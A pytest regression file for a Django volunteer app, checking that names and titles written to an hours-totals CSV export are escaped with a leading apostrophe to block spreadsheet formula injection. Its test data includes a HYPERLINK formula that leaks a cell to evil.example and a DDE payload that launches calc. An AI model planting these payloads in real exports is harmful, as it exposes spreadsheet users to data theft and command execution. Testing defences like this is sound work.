"""Finding (issue 9): "A display name starting with `=` reaches a coordinator's CSV download as a
formula." The hours totals CSV now writes such names and titles as text."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.utils import timezone

from engagement import services
from matching.models import Match
from opportunities.models import Opportunity
from placements.services import transitions
from tests.placements.lifecycle_helpers import peer_line, ready_volunteer, suggestion
from volunteers.models import VolunteerProfile

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("eager_tasks")]

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


@pytest.fixture
def ada_hours(ada, harbor, sam) -> Match:
    """Ada volunteers on Harbor House's peer line and logged 2.5 hours today."""
    suggested = suggestion(ready_volunteer(ada), peer_line(harbor, hours_per_week=20))
    match = transitions.match_approve(match_id=suggested.pk, actor=sam)
    match = transitions.match_accept(match_id=match.pk, actor=ada.user)
    services.hours_log_add(
        match_id=match.pk, actor=ada.user, date=timezone.localdate(), hours=Decimal("2.5")
    )
    return match


def _rows(client, by: str) -> list[dict[str, str]]:
    response = client.get(f"/api/v1/hours/totals.csv?by={by}")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize("name", [HYPERLINK, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_given_a_display_name_beginning_like_a_formula_when_sam_downloads_hours_csv_then_it_is_text(
    ada_hours, sam_client, name
):
    VolunteerProfile.objects.filter(pk=ada_hours.volunteer_id).update(display_name=name)

    rows = _rows(sam_client, "volunteer")

    assert [(r["volunteer"], r["hours"], r["verified_hours"], r["entries"]) for r in rows] == [
        ("'" + name, "2.50", "0.00", "1")
    ]
    assert rows[0]["volunteer_id"] == str(ada_hours.volunteer_id)


def test_given_a_role_title_beginning_with_at_when_totals_by_role_then_the_title_is_text(
    ada_hours, sam_client
):
    Opportunity.objects.filter(pk=ada_hours.opportunity_id).update(title="@cmd|' /C calc'!A0")

    rows = _rows(sam_client, "role")

    assert [(r["opportunity"], r["hours"]) for r in rows] == [("'@cmd|' /C calc'!A0", "2.50")]


def test_given_an_ordinary_name_when_downloaded_then_it_is_written_unchanged(ada_hours, sam_client):
    rows = _rows(sam_client, "volunteer")
    assert [r["volunteer"] for r in rows] == ["Ada"]
